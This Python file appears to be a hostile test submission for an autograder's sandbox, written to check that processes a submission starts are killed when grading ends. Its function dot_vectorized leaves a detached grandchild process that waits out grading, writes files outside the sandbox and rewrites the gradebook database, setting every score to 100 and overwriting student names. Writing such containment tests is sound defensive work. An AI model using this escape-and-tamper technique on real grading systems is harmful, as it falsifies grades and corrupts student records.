# Hostile: leaves a detached grandchild (double fork + setsid) that waits until the process that ran
# the function is gone (the submission's grading is over), then writes files outside the sandbox,
# rewrites the gradebook by absolute path, and stays around 15 s more. Every process a submission
# starts must be killed when its grading ends. The grandchild ends by itself within 75 s.
# unit: dot_vectorized
# expect: any outcome
import ctypes
import os
import sqlite3
import time

_launched = []


def _late_attack(worker):
    ctypes.CDLL(None).prctl(15, b"__TOKEN__l", 0, 0, 0)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            os.kill(worker, 0)
        except ProcessLookupError:
            break
        except OSError:
            pass
        time.sleep(0.1)
    else:
        return
    marker = "PW" + "NED_" + "__TOKEN__"
    for path in ("/tmp/pwned___TOKEN___late", "__CANARY__/pwned___TOKEN___late"):
        try:
            with open(path, "w") as handle:
                handle.write(marker)
        except Exception:
            pass
    try:
        connection = sqlite3.connect("file:__COURSE__/gradebook.db?mode=rw", uri=True)
        connection.execute("UPDATE grade SET auto_score = 100")
        connection.execute("UPDATE student SET first_name = ?", (marker,))
        connection.commit()
    except Exception:
        pass
    time.sleep(15)


def dot_vectorized(a, b):
    if not _launched:
        _launched.append(True)
        worker = os.getpid()
        if os.fork() == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    _late_attack(worker)
            finally:
                os._exit(0)
        else:
            try:
                os.wait()
            except Exception:
                pass
    return float(np.dot(a, b))
